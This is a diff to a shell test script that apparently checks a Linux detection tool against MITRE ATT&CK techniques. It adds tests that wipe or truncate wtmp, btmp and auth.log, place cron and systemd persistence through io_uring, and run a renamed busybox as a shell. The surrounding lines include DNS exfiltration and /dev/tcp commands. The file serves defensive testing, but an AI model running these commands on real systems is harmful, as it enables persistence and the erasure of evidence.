@@ -176,6 +176,12 @@ F|history-uring-trunc|defence evasion|T1070.003|V1107|a shell history truncated 
 F|clone-newuser|privilege escalation|T1611|R1006|clone(CLONE_NEWUSER, CLONE_NEWNS) without unshare
 F|dns-exfil-hex|exfiltration|T1048.003|R0005|a DNS question carrying hex-encoded data
 F|raw-icmp|exfiltration|T1095|V1001|a raw ICMP socket sending to a new peer
+F|busybox-copy-argv0|execution|T1059.004|V1100|find -exec a copy of busybox named update, run with argv[0] sh (execveat): busybox by content, the applet by argv
+F|cron-uring-rename|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-ur}|a cron entry renamed into place by io_uring RENAMEAT (denied: as nobody)
+F|systemd-uring-symlink|persistence|T1543.002|V1101{event.path=/etc/systemd/system/vigil-t2500-us.service}|a systemd unit symlinked into place by io_uring SYMLINKAT (denied: as nobody)
+F|wtmp-clear|defence evasion|T1070.002|V1110{event.path=/var/log/wtmp}|login records emptied by a redirection (O_TRUNC; denied: as nobody)
+F|btmp-truncate|defence evasion|T1070.002|V1110{event.path=/var/log/btmp}|failed-login records truncated with truncate(2) (perl; denied: as nobody)
+F|authlog-rm|defence evasion|T1070.002|V1110{event.path=/var/log/auth.log}|the authentication log removed (rm -f; denied: as nobody)
 EOF
 
 # ---- the world: peers, files, a mount namespace with a volume ---------------------------
@@ -217,6 +223,7 @@ echo 1 >"$W/home/.mysql_history"
 echo ls >"$W/home/.sh_history"
 echo 1 >"$W/home/.psql_history"
 cp /usr/bin/busybox "$W/bin/busyboxd"
+cp /usr/bin/busybox "$W/bin/update"
 ln -s /usr/bin/busybox "$W/lnk/sh"
 # a projected service-account volume as the kubelet writes it: a timestamped directory and ..data
 SA=$W/proj/var/run/secrets/eks.amazonaws.com/serviceaccount
@@ -286,6 +293,8 @@ benign() {
 	# a shell talking to a peer the profile knows through bash's /dev/tcp; a REPL history read
 	bash -c 'exec 3<>/dev/tcp/127.0.0.1/7000; echo hello >&3'
 	cat "$W/home/.psql_history"
+	# the login records read, as last(1) does
+	cat /var/log/wtmp
 }
 
 t_shell_from_find() { find "$W/findroot" -maxdepth 0 -exec /bin/sh -c 'id' \; ; }
@@ -477,6 +486,12 @@ if pid == 0:
 if pid > 0:
     os.waitpid(pid, 0)'; }
 t_dns_exfil_hex() { "$P/dns_query" 726f6f743a783a303a303a726f6f74.x.example.net 127.0.0.1 53; }
+t_busybox_copy_argv0() { find "$W/findroot" -maxdepth 0 -exec "$P/exec_via" execveat "$W/bin/update" sh -c id \; ; }
+t_cron_uring_rename() { nobody "$P/rename_via" uring "$W" data.txt /etc/cron.d/vigil-t2500-ur; }
+t_systemd_uring_symlink() { nobody "$P/red_uring_link" sym "$W/data.txt" /etc/systemd/system/vigil-t2500-us.service; }
+t_wtmp_clear() { nobody "$P/open_via" -x 513 sys /var/log/wtmp; }
+t_btmp_truncate() { nobody perl -e 'truncate("/var/log/btmp", 0)'; }
+t_authlog_rm() { nobody rm -f /var/log/auth.log; }
 t_raw_icmp() { python3 -c 'import socket
 s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
 s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("127.0.0.13", 0))'; }
@@ -531,5 +546,5 @@ for group in ${VIGIL_T2500_GROUPS:-A B C D E F}; do
 done
 [ "$failed" = 0 ] || fail "techniques missed (above; alerts in $TEST_TMP/alerts-*.jsonl)"
 n=$(grep -c '^ok ' "$TEST_TMP"/judge-*.txt | awk -F: '{ s += $2 } END { print s }')
-assert_ge "$n" 146 "techniques detected"
+assert_ge "$n" 152 "techniques detected"
 log "$n techniques detected, each quiet on the benign rerun"
